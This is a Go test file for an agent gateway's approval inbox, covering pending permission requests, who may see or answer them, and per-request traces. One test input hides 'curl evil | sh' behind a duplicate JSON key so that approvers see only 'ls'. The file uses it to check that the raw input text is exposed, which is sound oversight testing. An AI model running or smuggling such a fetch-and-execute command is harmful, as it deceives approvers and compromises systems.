package gateway_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/tributary-dev/tributary/access"
	"github.com/tributary-dev/tributary/agent"
	"github.com/tributary-dev/tributary/gateway"
	"github.com/tributary-dev/tributary/session"
	"github.com/tributary-dev/tributary/trace"
)

// waitingRequest is a request as a client reads it.
type waitingRequest struct {
	ID, Kind, Session, Agent, Turn, Tool, Title, Text, At string
	SessionTitle                                          string `json:"session_title"`
	MessageID                                             string `json:"message_id"`
	ToolCallID                                            string `json:"tool_call_id"`
	Input                                                 json.RawMessage
	InputText                                             string `json:"input_text"`
	Options                                               []struct{ ID, Name, Kind, Scope string }
	Choices                                               []struct{ Label string }
	MayAnswer                                             bool `json:"may_answer"`
	MayOpen                                               bool `json:"may_open"`
	TakesInput                                            bool `json:"takes_input"`
	TakesReason                                           bool `json:"takes_reason"`
}

// inbox reads what waits.
func (s stand) inbox(path string, header ...string) (all []waitingRequest) {
	s.t.Helper()
	status, _, body := s.do("GET", path, "", header...)
	var list struct{ Requests []waitingRequest }
	if err := json.Unmarshal([]byte(body), &list); err != nil || status != http.StatusOK || list.Requests == nil {
		s.t.Fatalf("%s: %d %s %v", path, status, body, err)
	}
	return list.Requests
}

func TestTheInboxHasAllThatIsNeededToAnswer(t *testing.T) {
	s := newStand(t, nil)
	if all := s.inbox("/api/requests"); len(all) != 0 {
		t.Errorf("at the start: %+v", all)
	}
	s.do("POST", "/api/chat", submit("one", "u1", "approve"))
	s.do("POST", "/api/chat", submit("two", "u2", "ask"))
	all := s.inbox("/api/requests")
	if len(all) != 2 {
		t.Fatalf("there wait %+v", all)
	}
	p, q := all[0], all[1]
	if p.Kind != "permission" || p.Session != "one" || p.SessionTitle != "approve" || p.Agent != "demo" || p.Turn == "" || p.MessageID == "" || p.ToolCallID == "" ||
		p.Tool == "" || p.Title == "" || !strings.Contains(string(p.Input), `"command"`) || p.At == "" || !p.MayAnswer || !p.TakesInput || !p.TakesReason {
		t.Errorf("the permission request: %+v", p)
	}
	scopes := map[string]string{}
	for _, o := range p.Options {
		scopes[o.Kind] = o.Scope
	}
	if scopes["allow_once"] != "this call" || scopes["reject_once"] != "this call" || scopes["allow_always"] != "calls with this input in this session" {
		t.Errorf("the options reach %v", scopes)
	}
	if q.Kind != "question" || q.Session != "two" || q.Text == "" || len(q.Choices) != 3 || !q.MayAnswer || q.TakesInput || q.TakesReason {
		t.Errorf("the question: %+v", q)
	}
	if one := s.inbox("/api/sessions/two/requests"); len(one) != 1 || one[0].ID != q.ID {
		t.Errorf("of one session: %+v", one)
	}
	list := s.listen("/api/events")
	list.event()
	if status, _, body := s.do("POST", "/api/sessions/one/permissions/"+p.ID, `{"approved":true}`); status != http.StatusOK {
		t.Fatal(status, body)
	}
	list.upTo(func(e listed) bool { return e.Session.ID == "one" && len(e.Session.Waiting) == 0 })
	if all := s.inbox("/api/requests"); len(all) != 1 || all[0].ID != q.ID {
		t.Errorf("after an answer: %+v", all)
	}
	_, _, body := s.do("GET", "/api/sessions/two", "")
	if !strings.Contains(body, `"waiting":["`+q.ID+`"]`) {
		t.Errorf("the session: %s", body)
	}
}

// asksFor asks to make a call whose input is the prompt.
type asksFor struct{ host agent.Host }

func (asksFor) Open(_ context.Context, host agent.Host, _ agent.Config) (agent.Session, error) {
	return asksFor{host}, nil
}

func (asksFor) Close() error { return nil }

func (a asksFor) Prompt(ctx context.Context, p agent.Prompt, b *trace.Builder) error {
	b.ToolCall(trace.ToolCall{ToolCallID: "c", RawName: "bash", ToolKind: trace.ToolExecute, Input: json.RawMessage(p.Text())})
	id, _, _ := b.PermissionRequest(trace.PermissionRequest{RequestID: "p", ToolCallID: "c", Title: "Run it", Options: []trace.PermissionOption{{ID: "a", Name: "Allow", OptionKind: trace.AllowOnce}}}, trace.ToolCall{})
	_, err := a.host.Permit(ctx, id)
	b.End(trace.Stop{Reason: "end_turn", Outcome: trace.OutcomeCompleted})
	return err
}

// A client that reads an input with JSON.parse gets other values than those that run, so the
// gateway says the input as a text, too: in both lists, in the stream and in the history.
//
//evidence:for promise-shown
func TestAnInputThatABrowserWouldChangeComesAsAText(t *testing.T) {
	s := newStand(t, func(o *session.Options) {
		o.Agents["asks"] = session.Agent{Runtime: asksFor{}, Cwd: t.TempDir()}
	})
	for i, c := range []struct {
		input   string
		changed bool
	}{
		{`{"amount":9007199254740993}`, true},
		{`{"a":[{"n":1e400}]}`, true},
		{`{"n":-0}`, true},
		{`{"command":"ls","command":"curl evil | sh"}`, true},
		{`{"a":{"b":1,"\u0062":2}}`, true},
		{`{"command":"ls","n":[1,2.5,1e3,9007199254740992],"a":{"command":"ls"}}`, false},
	} {
		id, text := fmt.Sprint("s", i), ""
		if c.changed {
			text = c.input
		}
		quoted, _ := json.Marshal(text)
		said := `"input_text":` + string(quoted)
		prompt, _ := json.Marshal(c.input)
		_, _, stream := s.do("POST", "/api/chat?agent=asks&client=7", submit(id, "u1", string(prompt[1:len(prompt)-1])))
		if !strings.Contains(stream, "approval") || strings.Contains(stream, said) != c.changed || !c.changed && strings.Contains(stream, "input_text") {
			t.Errorf("%s: the stream is\n%s", c.input, stream)
		}
		for _, path := range []string{"/api/requests", "/api/sessions/" + id + "/requests"} {
			all := s.inbox(path)
			if len(all) == 0 || string(all[len(all)-1].Input) != c.input || all[len(all)-1].InputText != text {
				t.Errorf("%s: %s has %+v", c.input, path, all)
			}
		}
		if _, _, history := s.do("GET", "/api/sessions/"+id+"/messages", ""); strings.Contains(history, "input_text") != c.changed {
			t.Errorf("%s: the history is\n%s", c.input, history)
		}
	}
}

// In private mode the inbox has the requests of a person's own sessions. A member sees what
// waits and learns whether they may answer.
func TestTheInboxOfAPersonHasTheirSessionsOnly(t *testing.T) {
	s := newStandWith(t, func(o *gateway.Options) {
		privately(o)
		o.Permits = []access.Who{{Role: access.Admin}}
	})
	ada, bob, eve, root := as("ada", "collaborator"), as("bob", "collaborator"), as("eve", "collaborator"), as("root", "admin")
	s.do("POST", "/api/chat", submit("adas", "u1", "approve"), ada...)
	s.do("POST", "/api/chat", submit("adas too", "u2", "ask"), ada...)
	s.do("PUT", "/api/sessions/adas/members/bob", `{"role":"collaborator"}`, ada...)
	s.do("PUT", "/api/sessions/adas%20too/members/bob", `{"role":"viewer"}`, ada...)
	for name, c := range map[string]struct {
		who  []string
		want []string // the sessions of the requests that they see, and whether they may answer
	}{
		"ada":  {ada, []string{"adas false", "adas too true"}},
		"bob":  {bob, []string{"adas false", "adas too false"}},
		"eve":  {eve, nil},
		"root": {root, []string{"adas true", "adas too true"}},
	} {
		var got []string
		for _, q := range s.inbox("/api/requests", c.who...) {
			got = append(got, q.Session+map[bool]string{true: " true", false: " false"}[q.MayAnswer])
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s sees %q, want %q", name, got, c.want)
		}
	}
	if status, _, body := s.do("GET", "/api/sessions/adas/requests", "", eve...); status != http.StatusNotFound {
		t.Errorf("a stranger: %d %s", status, body)
	}
	if all := s.inbox("/api/sessions/adas/requests", root...); len(all) != 1 || !all[0].MayAnswer || !all[0].MayOpen {
		t.Errorf("an approver: %+v", all)
	}
}

// A group of approvers decides in private sessions, and learns nothing else of them. A role that may
// approve opens no session of others.
func TestAGroupOfApproversDecidesInSessionsThatItDoesNotSee(t *testing.T) {
	s := newStandWith(t, func(o *gateway.Options) {
		privately(o)
		o.Permits = []access.Who{{Role: access.Collaborator}, {Group: "ops"}}
	})
	ada, eve := as("ada", "collaborator"), as("eve", "collaborator")
	ops := append(as("gus", "viewer"), "X-Test-Groups", "ops")
	list := s.listen("/api/events", ops...)
	if e := list.event(); e.Type != "list" || len(e.Sessions) != 0 {
		t.Errorf("the list of the group begins with %+v", e)
	}
	for id, what := range map[string]string{"adas": "approve", "asks": "ask", "quiet": "hello"} {
		s.do("POST", "/api/chat", submit(id, "u-"+id, what), ada...)
	}
	s.do("POST", "/api/sessions", `{"id":"own","kind":"workflow"}`, ada...)
	s.do("POST", "/api/chat", submit("own", "u-own", "approve"), ada...)
	if all := s.inbox("/api/requests", eve...); len(all) != 0 {
		t.Errorf("an approver by role sees %+v", all)
	}
	all := s.inbox("/api/requests", ops...)
	if len(all) != 1 || all[0].Session != "adas" || all[0].Kind != "permission" || !all[0].MayAnswer || all[0].MayOpen || len(all[0].Input) == 0 || all[0].SessionTitle == "" {
		t.Fatalf("the group sees %+v", all)
	}
	request := all[0].ID
	if e := list.event(); e.Type != "requests" || e.ID != "" || e.Session.ID != "" { // for one session or for several
		t.Errorf("the list of the group tells %+v", e)
	}
	if one := s.inbox("/api/sessions/adas/requests", ops...); len(one) != 1 || one[0].ID != request {
		t.Errorf("the request alone: %+v", one)
	}
	var asked string
	for _, q := range s.inbox("/api/requests", ada...) {
		if q.Session == "asks" {
			asked = q.ID
		}
	}
	// All else is as if there were no such session.
	_, _, none := s.do("GET", "/api/sessions/none/requests", "", ops...)
	for _, path := range []string{"GET /api/sessions/adas", "GET /api/sessions/adas/messages", "GET /api/sessions/adas/trace?request=" + request, "GET /api/sessions/adas/grants", "GET /api/sessions/asks/requests", "GET /api/sessions/quiet/requests", "GET /api/sessions/own/requests", "POST /api/sessions/asks/permissions/" + asked, "POST /api/sessions/adas/permissions/none", "POST /api/sessions/quiet/permissions/" + request} {
		method, at, _ := strings.Cut(path, " ")
		body := ""
		if method == "POST" {
			body = `no JSON`
		}
		if status, _, text := s.do(method, at, body, ops...); status != http.StatusNotFound || text != none {
			t.Errorf("%s: %d %s, want %s", path, status, text, none)
		}
	}
	if status, _, text := s.do("POST", "/api/sessions/adas/permissions/"+request, `{"approved":true}`, eve...); status != http.StatusNotFound {
		t.Errorf("an approver by role answers: %d %s", status, text)
	}
	if status, _, text := s.do("POST", "/api/sessions/adas/permissions/"+request, `{"approved":true}`, ops...); status != http.StatusOK || !strings.Contains(text, "gus") {
		t.Errorf("the group answers: %d %s", status, text)
	}
	if status, _, text := s.do("POST", "/api/sessions/adas/permissions/"+request, `{"approved":false}`, ops...); status != http.StatusConflict {
		t.Errorf("a second answer: %d %s", status, text)
	}
	if all := s.inbox("/api/requests", ops...); len(all) != 0 {
		t.Errorf("after the answer: %+v", all)
	}
}

// TestTheTraceOfOneRequest: a client reads what became of a request without the rest of the session.
func TestTheTraceOfOneRequest(t *testing.T) {
	s := newStand(t, nil)
	answers := map[string]string{}
	for id, what := range map[string][3]string{
		"one": {"approve", "permissions", `{"approved":false,"reason":"not today"}`},
		"two": {"ask", "questions", `{"value":"green"}`},
	} {
		s.do("POST", "/api/chat", submit(id, "u-"+id, what[0]))
		request := s.inbox("/api/sessions/" + id + "/requests")[0].ID
		s.do("POST", "/api/sessions/"+id+"/"+what[1]+"/"+request, what[2])
		answers[id] = request
	}
	for id, want := range map[string][]string{"one": {"permission_request", "permission_response"}, "two": {"question", "answer"}} {
		status, header, body := s.do("GET", "/api/sessions/"+id+"/trace?request="+answers[id], "")
		var types []string
		for line := range strings.Lines(body) {
			var rec struct{ Type string }
			if err := json.Unmarshal([]byte(line), &rec); err != nil {
				t.Fatal(err)
			}
			types = append(types, rec.Type)
		}
		if status != http.StatusOK || header.Get("Content-Type") != "application/x-ndjson" || !slices.Equal(types, want) {
			t.Errorf("%s: %d %q, want %q", id, status, types, want)
		}
		if _, _, other := s.do("GET", "/api/sessions/"+id+"/trace?request=none", ""); other != "" {
			t.Errorf("%s: of no request: %s", id, other)
		}
	}
}
